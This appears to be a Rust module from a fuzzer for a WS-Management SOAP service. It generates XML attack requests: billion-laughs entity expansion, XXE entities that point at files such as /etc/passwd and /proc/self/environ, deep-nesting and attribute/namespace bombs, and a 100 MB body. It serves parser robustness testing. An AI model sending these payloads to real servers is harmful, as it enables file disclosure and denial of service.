//! The XML attack library.
//!
//! Each attack keeps the seed envelope (so the request passes the transport
//! checks and reaches the XML reader) and puts its payload in the Body, and
//! for the DTD attacks a document type declaration before the root element.
//! These documents are spliced as bytes on purpose: a DTD, 100 000 nesting
//! levels or 100 000 attributes are exactly what the tree writer cannot or
//! should not produce.
//!
//! | operator | payload |
//! |---|---|
//! | `attack-billion-laughs` | entities each expanding to ten of the previous one, 5 to 9 levels |
//! | `attack-external-entity` | `SYSTEM "file:///…"` entities (general or parameter) |
//! | `attack-deep-nesting` | [`DEEP_NESTING`] nested elements |
//! | `attack-attribute-bomb` | [`BOMB_COUNT`] attributes on one element |
//! | `attack-namespace-bomb` | [`BOMB_COUNT`] namespace declarations on one element |
//! | `attack-huge-body`, `attack-huge-body-chunked` | [`HUGE_BODY_LEN`] octets of text, generated lazily |

use bytes::Bytes;
use wsman_proto::ns;
use wsman_proto::xml::{self, Element, Node};

use super::body::{GeneratedBody, RequestBody};
use super::operator::{Operator, SEED_LIMITS};
use super::Framing;

/// Nesting depth of `attack-deep-nesting`.
pub const DEEP_NESTING: usize = 100_000;
/// Attributes (or namespace declarations) of the bombs.
pub const BOMB_COUNT: usize = 100_000;
/// Length of the huge body's filler: 100 MB.
pub const HUGE_BODY_LEN: u64 = 100_000_000;
/// Chunk size of `attack-huge-body-chunked`.
pub const HUGE_BODY_CHUNK: usize = 64 * 1024;

/// Stands in the Body while the envelope is written, then is replaced by the payload.
const MARK: &str = "\u{1}fuzz-attack-payload\u{1}";

/// Files the external entities name.
const XXE_FILES: &[&str] = &["file:///etc/passwd", "file:///c:/windows/win.ini", "file:///etc/hostname", "file:///proc/self/environ"];

/// The envelope split around its Body content: (before, after).
fn split_envelope(envelope: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let mut tree = xml::parse(envelope, &SEED_LIMITS)
        .ok()
        .filter(|t| t.is(ns::SOAP, "Envelope"))
        .unwrap_or_else(|| Element::ns(ns::SOAP, "Envelope").with_child(Element::ns(ns::SOAP, "Header")).with_child(Element::ns(ns::SOAP, "Body")));
    if tree.child(ns::SOAP, "Body").is_none() {
        tree.push(Element::ns(ns::SOAP, "Body"));
    }
    if let Some(body) = tree.child_mut(ns::SOAP, "Body") {
        body.children.push(Node::Text(MARK.to_owned()));
    }
    let bytes = xml::to_bytes(&tree);
    let text = String::from_utf8_lossy(&bytes).into_owned();
    match text.split_once(MARK) {
        Some((a, b)) => (a.as_bytes().to_vec(), b.as_bytes().to_vec()),
        None => (bytes, Vec::new()),
    }
}

/// Inserts `dtd` after the XML declaration of `before`.
fn with_dtd(mut before: Vec<u8>, dtd: &str) -> Vec<u8> {
    let at = if before.starts_with(b"<?xml") { before.windows(2).position(|w| w == b"?>").map(|p| p + 2).unwrap_or(0) } else { 0 };
    before.splice(at..at, dtd.bytes());
    before
}

/// Builds the attack `op` on `envelope`; the framing when it imposes one.
pub fn build(op: Operator, choice: u32, envelope: &[u8]) -> (RequestBody, Option<Framing>) {
    let c = choice as usize;
    let (before, after) = split_envelope(envelope);
    let join = |before: Vec<u8>, payload: &[u8]| {
        let mut out = before;
        out.extend_from_slice(payload);
        out.extend_from_slice(&after);
        RequestBody::Bytes(Bytes::from(out))
    };
    match op {
        Operator::BillionLaughs => {
            let levels = 5 + c % 5;
            let mut dtd = String::from("<!DOCTYPE Envelope [<!ENTITY lol0 \"lol\">");
            for i in 1..=levels {
                dtd.push_str(&format!("<!ENTITY lol{i} \""));
                for _ in 0..10 {
                    dtd.push_str(&format!("&lol{};", i - 1));
                }
                dtd.push_str("\">");
            }
            dtd.push_str("]>");
            (join(with_dtd(before, &dtd), format!("<Fuzz>&lol{levels};</Fuzz>").as_bytes()), None)
        }
        Operator::ExternalEntity => {
            let file = XXE_FILES[c % XXE_FILES.len()];
            if (c / XXE_FILES.len()).is_multiple_of(2) {
                let dtd = format!("<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM \"{file}\">]>");
                (join(with_dtd(before, &dtd), b"<Fuzz>&xxe;</Fuzz>"), None)
            } else {
                let dtd = format!("<!DOCTYPE Envelope [<!ENTITY % xxe SYSTEM \"{file}\"> %xxe;]>");
                (join(with_dtd(before, &dtd), b"<Fuzz/>"), None)
            }
        }
        Operator::DeepNesting => {
            let mut p = Vec::with_capacity(DEEP_NESTING * 7);
            for _ in 0..DEEP_NESTING {
                p.extend_from_slice(b"<a>");
            }
            for _ in 0..DEEP_NESTING {
                p.extend_from_slice(b"</a>");
            }
            (join(before, &p), None)
        }
        Operator::AttributeBomb => {
            let mut p = String::with_capacity(BOMB_COUNT * 12);
            p.push_str("<Fuzz");
            for i in 0..BOMB_COUNT {
                p.push_str(&format!(" a{i}=\"x\""));
            }
            p.push_str("/>");
            (join(before, p.as_bytes()), None)
        }
        Operator::NamespaceBomb => {
            // Every declaration binds a new prefix (to a namespace already in use, so
            // no namespace URI is made up here).
            let mut p = String::with_capacity(BOMB_COUNT * (ns::WSMAN.len() + 16));
            p.push_str("<Fuzz");
            for i in 0..BOMB_COUNT {
                p.push_str(&format!(" xmlns:p{i}=\"{}\"", ns::WSMAN));
            }
            p.push_str("/>");
            (join(before, p.as_bytes()), None)
        }
        Operator::HugeBody | Operator::HugeBodyChunked => {
            let mut head = before;
            head.extend_from_slice(b"<Fuzz>");
            let mut tail = b"</Fuzz>".to_vec();
            tail.extend_from_slice(&after);
            let body = GeneratedBody { head: head.into(), filler: b'x', filler_len: HUGE_BODY_LEN, tail: tail.into() };
            let framing = (op == Operator::HugeBodyChunked).then_some(Framing::Chunked { chunk: HUGE_BODY_CHUNK });
            (RequestBody::Generated(body), framing)
        }
        // Not an attack: the envelope unchanged.
        _ => (RequestBody::Bytes(Bytes::from(envelope.to_vec())), None),
    }
}
